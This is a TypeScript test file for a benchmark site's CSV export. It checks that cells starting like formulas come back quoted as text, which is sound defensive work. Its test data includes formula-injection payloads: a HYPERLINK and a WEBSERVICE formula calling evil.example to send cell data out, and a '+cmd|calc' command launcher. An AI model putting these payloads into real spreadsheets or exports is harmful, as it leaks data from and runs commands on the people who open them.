// CSV formula injection (issue 23 item 7): a predictions or outputs CSV opened in a spreadsheet must
// show a hostile id, task, output or reference as text, never run it. Every CSV the site writes goes
// through csvDocument; these read the files back with papaparse, as a spreadsheet's import would.
import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { csvDocument } from '../../../src/lib/core/csv-cell.ts';
import { generationCsv, predictionsCsv } from '../../../src/lib/core/formats/jiangu-run/export.ts';
import type { GenItemResult, McItemResult } from '../../../src/lib/core/record/run.ts';
import { buildExport } from '../../../src/lib/data/export-files.ts';
import { createRun, saveResult } from '../../../src/lib/store/runs.ts';
import type { JianguDatabase } from '../../../src/lib/store/schema.ts';
import { makeGenRun, makeMcRun } from '../../fixtures/run-records/build.ts';
import { freshDb } from '../store/helpers.ts';

/** Cells a spreadsheet would run, each as a run file or an AncientBench file could give it. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&B2,"open")',
  '=1+1',
  '+cmd|calc',
  '-2+3',
  '@SUM(1,1)',
  '\tleading tab',
  '\rleading carriage return',
  '\nleading line feed',
  '＝1+1',
  '-0.5',
];
/** Cells that must come back exactly as they are. */
const ORDINARY = ['通假字/test/0', 'a=b', "it's", '1+1', 'x,"quoted"', '古文单字多义', '0.5', ''];

const rows = (csv: string) => Papa.parse<Record<string, string>>(csv, { header: true }).data;

describe('csvDocument', () => {
  it('puts a single quote in front of every text cell that starts like a formula, and quotes it', () => {
    const csv = csvDocument(['cell'], [...HOSTILE, ...ORDINARY].map((cell) => [cell]));
    const back = rows(csv).map((row) => row.cell);
    expect(back).toEqual([...HOSTILE.map((cell) => `'${cell}`), ...ORDINARY]);
    // Each neutralised cell is written in double quotes, as OWASP's rule asks, not only the ones CSV forces.
    expect(csv.split('\n')).toContain(`"'=1+1"`);
    expect(csv.split('\n')).toContain(`"'+cmd|calc"`);
  });

  it('writes numbers the site computed as numbers, negative ones included', () => {
    const csv = csvDocument(['text', 'number'], [['-0.5', -0.5], ['-2+3', -2.25], ['x', 0]]);
    expect(rows(csv)).toEqual([
      { text: "'-0.5", number: '-0.5' },
      { text: "'-2+3", number: '-2.25' },
      { text: 'x', number: '0' },
    ]);
  });
});

const mc = (itemId: string, task: string): McItemResult => {
  const { results } = makeMcRun('r');
  return { ...(results[0] as McItemResult), itemId, task };
};

describe('predictionsCsv and generationCsv', () => {
  it('neutralise hostile ids and tasks and keep ordinary ones and the log-probabilities as they are', () => {
    const results = [mc(HOSTILE[0], '=1+1'), mc('+cmd|calc', '古文单字多义'), mc('-2+3', '通假字'), mc('通假字/test/0', '通假字')];
    const back = rows(predictionsCsv(results));
    expect(back.map((row) => row.item_id)).toEqual([`'${HOSTILE[0]}`, "'+cmd|calc", "'-2+3", '通假字/test/0']);
    expect(back.map((row) => row.task)).toEqual(["'=1+1", '古文单字多义', '通假字', '通假字']);
    // The log-probabilities are negative numbers the site wrote: no quote in front.
    expect(back[0].logp_A).toBe(String(results[0].logProbs[0]));
    expect(Number(back[0].logp_A)).toBeLessThan(0);
  });

  it('neutralise a generation run’s hostile outputs and references', () => {
    const { results } = makeGenRun('g');
    const hostile: GenItemResult = { ...(results[0] as GenItemResult), itemId: '@x', output: '=WEBSERVICE("http://evil.example/")', references: ['-1+1'] };
    const back = rows(generationCsv([hostile, results[1] as GenItemResult]));
    expect(back[0]).toMatchObject({ item_id: "'@x", output: `'=WEBSERVICE("http://evil.example/")`, references: "'-1+1" });
    expect(back[1]).toMatchObject({ item_id: results[1].itemId, output: (results[1] as GenItemResult).output });
    expect(back[0].output_tokens).toBe(String((results[0] as GenItemResult).outputTokenIds.length));
  });
});

describe('the exported file (export worker code, fake-indexeddb)', () => {
  let db: JianguDatabase;
  beforeEach(async () => {
    db = await freshDb();
  });
  afterEach(() => db.close());

  it('is the neutralised CSV, with its BOM', async () => {
    const { run, results } = makeMcRun('run-hostile');
    const hostileId = '=HYPERLINK("http://evil.example/?x="&B2,"open")';
    const hostile = results.map((r, i) => (i === 0 ? { ...r, itemId: hostileId } : r));
    await createRun(db, { ...run, config: { ...run.config, itemIds: hostile.map((r) => r.itemId) } });
    for (const r of hostile) await saveResult(db, r);
    const file = await buildExport(db, { kind: 'results-csv', runId: run.id });
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode((file as { bytes: Uint8Array }).bytes);
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const ids = rows(text.slice(1)).map((row) => row.item_id);
    expect(ids).toContain(`'${hostileId}`);
    expect(ids).not.toContain(hostileId);
  });
});
